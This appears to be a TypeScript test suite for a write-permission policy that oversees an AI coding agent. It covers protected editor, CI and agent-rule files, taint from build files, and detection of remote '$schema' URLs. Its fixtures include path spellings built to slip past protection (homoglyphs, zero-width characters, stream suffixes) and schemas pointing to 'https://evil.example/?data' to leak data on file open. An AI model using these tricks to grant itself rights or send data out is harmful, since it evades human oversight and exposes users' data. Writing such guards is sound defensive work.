import assert from 'node:assert/strict';
import { allRights } from '../../src/core/rights.ts';
import { isProtectedPath } from '../../src/policy/protectedPaths.ts';
import { newRemoteSchema } from '../../src/policy/remoteSchema.ts';
import { createRights } from '../../src/policy/rights.ts';
import { isBuildPath, taintedBy } from '../../src/policy/taint.ts';

const allowing = createRights({ mode: 'editFreely', allowedCommands: [], denyWrites: [], denyCommands: [] });
const standing = { rights: allRights, granted: false, tainted: false };
const write = (path: string, concern?: string) =>
  allowing({ kind: 'write', title: '', path, diff: '', ...(concern === undefined ? {} : { concern }) }, standing).kind;

describe('what takes a click whatever the settings say', () => {
  for (const path of [
    '.vscode/settings.json',
    'Library/Application Support/Code/User/keybindings.json',
    '.config/Code/User/profiles/x/settings.json',
  ]) {
    it(`TRU-04: rights an agent could give itself: ${path}`, () => assert.equal(write(path), 'ask'));
  }
  for (const path of [
    'a.code-workspace',
    '.vscode/tasks.json',
    '.vscode/launch.json',
    '.vscode/x.code-snippets',
    'snippets/x.code-snippets',
    '.devcontainer/devcontainer.json',
  ]) {
    it(`TRU-05: what an editor runs when it opens a folder: ${path}`, () => assert.equal(write(path), 'ask'));
  }
  for (const path of [
    '.circleci/config.yml',
    '.gitlab-ci.yml',
    '.yarn/releases/yarn.cjs',
    '.netrc',
    '.cursorrules',
    '.windsurf/rules/a.md',
  ]) {
    it(`FS-07: what runs elsewhere, or tells agents what to do: ${path}`, () => assert.equal(isProtectedPath(path), true));
  }
  for (const path of [
    '.GİT/../.GIT/config',
    '.g\u0131t/config',
    '.VSCODE\u200b/tasks.json',
    'AGENTS\u00ad.md',
    '.Ｅnv',
    'Claude.md.',
    '.env:stream',
    'GITMOD~1',
    'cafe\u0301/.ENVRC',
  ]) {
    it(`FS-04: spelled otherwise: ${JSON.stringify(path)}`, () => assert.equal(isProtectedPath(path), true));
  }

  it('TRU-08: asks about a concern of the plan', () => {
    assert.equal(write('data/a.json'), 'allow');
    assert.equal(write('data/a.json', 'An editor that opens it asks https://evil.example for its schema.'), 'ask');
  });
});

describe('TRU-08: a schema on another machine', () => {
  const evil = 'https://evil.example/?data';
  for (const [path, text] of [
    ['a.json', `{"$schema": "${evil}"}`],
    ['a.json', `{"\\u0024schema": "https:\\/\\/evil.example/?data"}`],
    ['a.jsonc', `{ "$schema" /* x */ : // y\n "${evil}" }`],
    ['a.json5', `{ $schema: '${evil}' }`],
    ['.babelrc', `{"$schema":"${evil}"}`],
    ['a.yaml', `# yaml-language-server: $schema=${evil}\na: 1`],
    ['a.toml', `#:schema ${evil}`],
    ['A.JSON', `{"$SCHEMA": "//evil.example/?data"}`],
  ] as const) {
    it(`is found in ${path}: ${text.slice(0, 40)}`, () => assert.match(newRemoteSchema(path, '', text) ?? '', /evil\.example\/\?data$/));
  }

  it('is none when it is local, was there before, or stands in another kind of file', () => {
    assert.equal(newRemoteSchema('a.json', '', '{"$schema": "./schema.json"}'), undefined);
    assert.equal(newRemoteSchema('a.json', `{"$schema": "${evil}"}`, `{"$schema": "${evil}", "a": 1}`), undefined);
    assert.equal(newRemoteSchema('a.ts', '', `const a = { "$schema": "${evil}" };`), undefined);
    assert.equal(newRemoteSchema('a.json', `{"$schema": "${evil}"}`, `{"$schema": "${evil}2"}`), `${evil}2`);
  });
});

describe('what taints a run', () => {
  it('is a file that executes later, whatever its case and folder', () => {
    for (const path of [
      'package.json',
      'app/Package.JSON',
      'Makefile',
      'x/build.rs',
      'a.gradle.kts',
      'a.csproj',
      'Directory.Build.props',
      'conftest.py',
      'setup.py',
      'Cargo.lock',
      'yarn.lock',
      'vite.config.ts',
      '.eslintrc.cjs',
      'requirements-dev.txt',
      'docker-compose.yml',
      '.pre-commit-config.yaml',
    ]) {
      assert.equal(isBuildPath(path), true, path);
    }
    for (const path of ['src/a.ts', 'README.md', 'src/package.ts', 'makefile.md', 'lock.txt', 'src/config.ts']) {
      assert.equal(isBuildPath(path), false, path);
    }
  });

  it('is told by name, each once', () => {
    assert.deepEqual(taintedBy(['src/a.ts', 'package.json', 'Makefile', 'package.json']), ['Makefile', 'package.json']);
    assert.deepEqual(taintedBy([]), []);
  });
});
